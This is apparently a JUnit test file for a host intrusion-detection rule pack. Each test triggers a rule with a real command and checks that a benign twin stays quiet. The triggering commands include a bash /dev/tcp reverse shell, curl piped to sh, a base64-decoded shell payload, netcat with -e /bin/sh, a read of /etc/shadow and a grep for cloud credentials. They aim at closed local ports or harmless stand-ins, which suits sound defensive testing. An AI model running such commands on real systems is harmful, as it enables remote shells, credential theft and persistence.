package io.infrasight.sentinel.real;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.infrasight.api.alert.Alert;
import io.infrasight.api.alert.Severity;
import io.infrasight.api.event.Event;
import io.infrasight.api.event.ExecEvent;
import io.infrasight.api.event.OpenEvent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The default pack's exec and open rules against behaviour performed for real on this machine,
 * observed by the real exec and open probes (root, real kernel). Each test performs the behaviour
 * and asserts the alert and its key fields, then performs a benign twin and asserts, once the twin's
 * own event has been evaluated, that the rule stayed quiet. Rules on kinds whose probes are still
 * being written (chmod, connect, ptrace, mmap, mount) are covered at event level in
 * DefaultPackRulesTest.
 */
class RealBehaviourTest {
    private static final long WAIT_MS = 5000;
    private static final Set<String> KEPT_PATHS = Set.of("/etc/shadow", "/etc/hostname", "/etc/sudoers",
            "/proc/self/mem", "/proc/self/status");

    @TempDir
    static Path tmp;
    private static ProbePipeline pipe;

    @BeforeAll
    static void start() throws Exception {
        pipe = new ProbePipeline(e -> e instanceof ExecEvent
                || e instanceof OpenEvent o && (o.path().contains("infrasight-rt") || KEPT_PATHS.contains(o.path())),
                "/etc/", "/usr/local/bin/", "/var/log/", "/tmp/", "/proc/self/");
    }

    @AfterAll
    static void stop() {
        if (pipe != null) {
            pipe.close();
        }
    }

    private static String marker() {
        return "infrasight-rt-" + UUID.randomUUID().toString().substring(0, 8);
    }

    /** Runs a command to completion and returns its pid. */
    private static long run(String... cmd) throws Exception {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .start();
        p.waitFor();
        return p.pid();
    }

    private static long sh(String script) throws Exception {
        return run("/bin/sh", "-c", script);
    }

    private static Predicate<Event> openOf(String path) {
        return e -> e instanceof OpenEvent o && o.path().equals(path);
    }

    private static Predicate<Event> execWith(String marker) {
        return e -> e instanceof ExecEvent x && String.join(" ", x.argv()).contains(marker);
    }

    private static Predicate<Event> pid(long pid) {
        return e -> e.header().pid() == pid;
    }

    private static Alert expectAlert(String rule, Predicate<Event> on) throws InterruptedException {
        return pipe.awaitAlert(rule, on, WAIT_MS).orElseThrow(() -> new AssertionError("no " + rule + " alert; "
                + "fired: " + pipe.alerts.stream().map(Alert::ruleId).distinct().toList() + "; " + pipe.counters()));
    }

    /** Waits until the twin's own event has been evaluated, then checks the rule did not fire on it. */
    private static void expectQuiet(String rule, Predicate<Event> twin) throws InterruptedException {
        pipe.awaitEvent(twin, WAIT_MS).orElseThrow(() -> new AssertionError("the twin's event never arrived; "
                + pipe.counters()));
        assertFalse(pipe.rulesFiredOn(twin).contains(rule), rule + " fired on the benign twin");
    }

    // ---------------------------------------------------------------- open rules

    @Test
    void catReadingEtcShadowAlertsAndReadingEtcHostnameDoesNot() throws Exception {
        long pid = run("/bin/cat", "/etc/shadow");
        Alert a = expectAlert("read_sensitive_file_untrusted", pid(pid).and(openOf("/etc/shadow")));
        assertEquals(Severity.WARNING, a.severity());
        assertTrue(a.message().startsWith("Sensitive file /etc/shadow opened for reading by cat (pid=" + pid), a.message());
        long twin = run("/bin/cat", "/etc/hostname");
        expectQuiet("read_sensitive_file_untrusted", pid(twin).and(openOf("/etc/hostname")));
    }

    @Test
    void shellWritingBelowEtcAlertsAndWritingBelowTmpDoesNot() throws Exception {
        String f = "/etc/" + marker();
        sh("echo x > " + f + "; rm -f " + f);
        Alert a = expectAlert("write_below_etc", openOf(f));
        assertEquals("sh", a.event().header().comm());
        assertTrue(a.message().contains("file=" + f), a.message());
        String twin = tmp.resolve(marker()).toString();
        sh("echo x > " + twin);
        expectQuiet("write_below_etc", openOf(twin));
    }

    @Test
    void touchingAFileInUsrLocalBinAlertsAndInTmpDoesNot() throws Exception {
        String f = "/usr/local/bin/" + marker();
        run("/usr/bin/touch", f);
        Files.deleteIfExists(Path.of(f));
        Alert a = expectAlert("write_below_binary_dir", openOf(f));
        assertEquals(Severity.ERROR, a.severity());
        String twin = tmp.resolve(marker()).toString();
        run("/usr/bin/touch", twin);
        expectQuiet("write_below_binary_dir", openOf(twin));
    }

    @Test
    void writingASudoersDropInAlertsAndReadingSudoersDoesNot() throws Exception {
        // a name with a dot: sudo ignores such files in sudoers.d, so the test never changes sudo
        String f = "/etc/sudoers.d/" + marker().replace("-rt-", ".rt-");
        boolean made = Files.notExists(Path.of("/etc/sudoers.d"));
        sh("mkdir -p /etc/sudoers.d && echo '# test' > " + f + "; rm -f " + f + (made ? "; rmdir /etc/sudoers.d" : ""));
        Alert a = expectAlert("sudoers_modification", openOf(f));
        assertEquals(Severity.CRITICAL, a.severity());
        long twin = sh("cat /etc/sudoers > /dev/null");
        pipe.awaitEvent(openOf("/etc/sudoers"), WAIT_MS).orElseThrow();
        assertFalse(pipe.rulesFiredOn(openOf("/etc/sudoers")).contains("sudoers_modification"));
        assertTrue(twin > 0);
    }

    @Test
    void writingACronDropInAlertsAndAFileElsewhereDoesNot() throws Exception {
        String f = "/etc/cron.d/" + marker().replace("-rt-", ".rt-");   // cron ignores names with dots
        sh("echo '# test' > " + f + "; rm -f " + f);
        expectAlert("cron_modification", openOf(f));
        String twin = tmp.resolve("cron.d-" + marker()).toString();
        sh("echo x > " + twin);
        expectQuiet("cron_modification", openOf(twin));
    }

    @Test
    void appendingToAuthorizedKeysAlertsAndToKnownHostsDoesNot() throws Exception {
        Path ssh = Files.createDirectories(tmp.resolve(marker()).resolve(".ssh"));
        String f = ssh.resolve("authorized_keys").toString();
        sh("echo 'ssh-ed25519 AAAA test' >> " + f);
        Alert a = expectAlert("ssh_authorized_keys_modification", openOf(f));
        assertTrue(a.tags().contains("T1098.004"), a.tags().toString());
        String twin = ssh.resolve("known_hosts").toString();
        sh("echo 'host ssh-ed25519 AAAA' >> " + twin);
        expectQuiet("ssh_authorized_keys_modification", openOf(twin));
    }

    @Test
    void truncatingALogFileAlertsAndAppendingDoesNot() throws Exception {
        String f = "/var/log/" + marker() + ".log";
        sh(": > " + f);
        Alert a = expectAlert("log_truncation", openOf(f));
        assertTrue(a.message().contains("file=" + f), a.message());
        String twin = "/var/log/" + marker() + ".log";
        sh("echo x >> " + twin + "; rm -f " + f + " " + twin);
        expectQuiet("log_truncation", openOf(twin));
    }

    @Test
    void truncatingShellHistoryAlertsAndAppendingDoesNot() throws Exception {
        Path home = Files.createDirectories(tmp.resolve(marker()));
        String f = home.resolve(".bash_history").toString();
        sh(": > " + f);
        expectAlert("shell_history_cleared", openOf(f));
        Path home2 = Files.createDirectories(tmp.resolve(marker()));
        String twin = home2.resolve(".bash_history").toString();
        sh("echo ls >> " + twin);
        expectQuiet("shell_history_cleared", openOf(twin));
    }

    @Test
    void writingAFileNamedReleaseAgentAlertsAndReadingItDoesNot() throws Exception {
        // Not the host's cgroup hierarchy: writing a real release_agent would change the machine. The
        // rule matches the file name, so a release_agent file in a private directory is the same
        // behaviour as far as the probe and the rule can tell.
        Path dir = Files.createDirectories(tmp.resolve(marker()));
        String f = dir.resolve("release_agent").toString();
        long pid = sh("echo /tmp/x > " + f);
        Alert a = expectAlert("cgroup_release_agent_write", pid(pid).and(openOf(f)));
        assertEquals(Severity.CRITICAL, a.severity());
        assertTrue(a.message().contains("file=" + f), a.message());
        sh("cat " + f + " > /dev/null");
        expectQuiet("cgroup_release_agent_write", openOf(f).and(e -> (((OpenEvent) e).flags() & 3) == 0));
    }

    @Test
    void openingProcSelfMemForWritingAlertsAndReadingProcSelfStatusDoesNot() throws Exception {
        long pid = sh("exec 3>>/proc/self/mem; true");
        expectAlert("proc_mem_write", pid(pid).and(openOf("/proc/self/mem")));
        long twin = sh("cat /proc/self/status > /dev/null; true");
        pipe.awaitEvent(openOf("/proc/self/status"), WAIT_MS).orElseThrow();
        assertFalse(pipe.rulesFiredOn(openOf("/proc/self/status")).contains("proc_mem_write"));
        assertTrue(twin > 0);
    }

    // ---------------------------------------------------------------- exec rules

    @Test
    void memfdExecutionAlertsAndARegularBinaryDoesNot() throws Exception {
        String m = marker();
        run("target/fdexec", "memfd", m);
        Alert a = expectAlert("fileless_execution_memfd", execWith(m).and(e -> ((ExecEvent) e).exeMemfd()));
        assertTrue(a.message().startsWith("Fileless execution from memfd (file=/dev/fd/"), a.message());
        String t = marker();
        run("/bin/true", t);
        expectQuiet("fileless_execution_memfd", execWith(t));
    }

    @Test
    void executingADeletedBinaryAlertsAndAnExistingOneDoesNot() throws Exception {
        String m = marker();
        run("target/fdexec", "deleted", m);
        expectAlert("execution_of_deleted_binary", execWith(m).and(e -> ((ExecEvent) e).exeDeleted()));
        String t = marker();
        run("/bin/true", t);
        expectQuiet("execution_of_deleted_binary", execWith(t));
    }

    @Test
    void executingFromTmpAlertsAndFromUsrBinDoesNot() throws Exception {
        Path bin = Files.copy(Path.of("/bin/true"), tmp.resolve(marker()), StandardCopyOption.REPLACE_EXISTING);
        bin.toFile().setExecutable(true);
        String m = marker();
        run(bin.toString(), m);
        Alert a = expectAlert("execution_from_tmp", execWith(m));
        assertEquals(bin.toString(), ((ExecEvent) a.event()).filename());
        String t = marker();
        run("/usr/bin/true", t);
        expectQuiet("execution_from_tmp", execWith(t));
    }

    @Test
    void executingAHiddenFileInTmpAlertsAndAVisibleOneDoesNot() throws Exception {
        Path hidden = Path.of("/tmp/." + marker());
        Path visible = Path.of("/tmp/" + marker());
        try {
            Files.copy(Path.of("/bin/true"), hidden).toFile().setExecutable(true);
            Files.copy(Path.of("/bin/true"), visible).toFile().setExecutable(true);
            String m = marker();
            run(hidden.toString(), m);
            expectAlert("hidden_file_executed_from_tmp", execWith(m));
            String t = marker();
            run(visible.toString(), t);
            expectQuiet("hidden_file_executed_from_tmp", execWith(t));
        } finally {
            Files.deleteIfExists(hidden);
            Files.deleteIfExists(visible);
        }
    }

    @Test
    void shellStartedByThisJvmAlertsAndShellStartedByAShellDoesNot() throws Exception {
        String m = marker();
        sh(": " + m);
        Alert a = expectAlert("shell_spawned_by_server", execWith(m));
        assertTrue(a.message().contains("parent=java"), a.message());
        String t = marker();
        // the trailing "; true" keeps the outer shell from exec'ing the inner one in place
        sh("sh -c ': inner " + t + "'; true");
        expectQuiet("shell_spawned_by_server", execWith("inner " + t).and(e -> ((ExecEvent) e).argv().get(2).startsWith(":")));
    }

    @Test
    void netcatWithExecFlagAlertsAndAPortCheckDoesNot() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve(marker()));
        Path nc = Files.copy(Path.of("/bin/true"), dir.resolve("nc"));
        nc.toFile().setExecutable(true);
        String m = marker();
        run(nc.toString(), "-e", "/bin/sh", "127.0.0.1", "4444", m);
        Alert a = expectAlert("reverse_shell_netcat", execWith(m));
        assertEquals("nc", a.event().header().comm());
        String t = marker();
        run(nc.toString(), "-z", "127.0.0.1", "80", t);
        expectQuiet("reverse_shell_netcat", execWith(t));
    }

    @Test
    void bashDevTcpReverseShellAlertsAndAPlainBashCommandDoesNot() throws Exception {
        String m = marker();
        // 127.0.0.1:1 refuses the connection, so the redirection fails and nothing runs
        run("/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/1 0>&1; : " + m);
        Alert a = expectAlert("reverse_shell_dev_tcp", execWith(m));
        assertEquals(Severity.CRITICAL, a.severity());
        String t = marker();
        run("/bin/bash", "-c", "echo hello; : " + t);
        expectQuiet("reverse_shell_dev_tcp", execWith(t));
    }

    @Test
    void curlPipedToShellAlertsAndCurlToAFileDoesNot() throws Exception {
        String m = marker();
        sh("curl -s http://127.0.0.1:1/x | sh; : " + m);
        expectAlert("download_piped_to_shell", execWith(m));
        String t = marker();
        sh("curl -s -o /dev/null http://127.0.0.1:1/x; : " + t);
        expectQuiet("download_piped_to_shell", execWith(t));
    }

    @Test
    void base64DecodedIntoAShellAlertsAndEncodingAFileDoesNot() throws Exception {
        String m = marker();
        sh("echo dHJ1ZQo= | base64 -d | sh; : " + m);
        expectAlert("encoded_payload_executed", execWith(m));
        String t = marker();
        sh("base64 /etc/hostname > /dev/null; : " + t);
        expectQuiet("encoded_payload_executed", execWith(t));
    }

    @Test
    void grepForCloudCredentialsAlertsAndGrepForTodoDoesNot() throws Exception {
        String m = marker();
        run("/usr/bin/grep", "-r", "aws_secret_access_key", tmp.toString(), m);
        Alert a = expectAlert("credential_search", execWith(m));
        assertTrue(a.tags().contains("T1552.001"));
        String t = marker();
        run("/usr/bin/grep", "-r", "TODO", tmp.toString(), t);
        expectQuiet("credential_search", execWith(t));
    }

    @Test
    void aNetworkScannerOnTheHostAlertsAndAnOrdinaryToolDoesNot() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve(marker()));
        Path nmap = Files.copy(Path.of("/bin/true"), dir.resolve("nmap"));
        Path tool = Files.copy(Path.of("/bin/true"), dir.resolve("mytool"));
        nmap.toFile().setExecutable(true);
        tool.toFile().setExecutable(true);
        String m = marker();
        run(nmap.toString(), "-sS", "127.0.0.1", m);
        expectAlert("network_tool_on_host", execWith(m));
        String t = marker();
        run(tool.toString(), t);
        expectQuiet("network_tool_on_host", execWith(t));
    }

    @Test
    void aStratumPoolUrlOnACommandLineAlertsAndAnHttpsUrlDoesNot() throws Exception {
        String m = marker();
        run("/bin/true", "-o", "stratum+tcp://127.0.0.1:3333", m);
        expectAlert("crypto_miner_stratum", execWith(m));
        String t = marker();
        run("/bin/true", "https://127.0.0.1/", t);
        expectQuiet("crypto_miner_stratum", execWith(t));
    }

    @Test
    void noRuleRaisesErrorsOnTheRealEventStream() {
        assertEquals(0L, pipe.sentinel.counters().get("eval_errors"), pipe.counters());
        assertTrue(List.of(pipe.sentinel.counters().get("events")).get(0) > 0);
    }
}
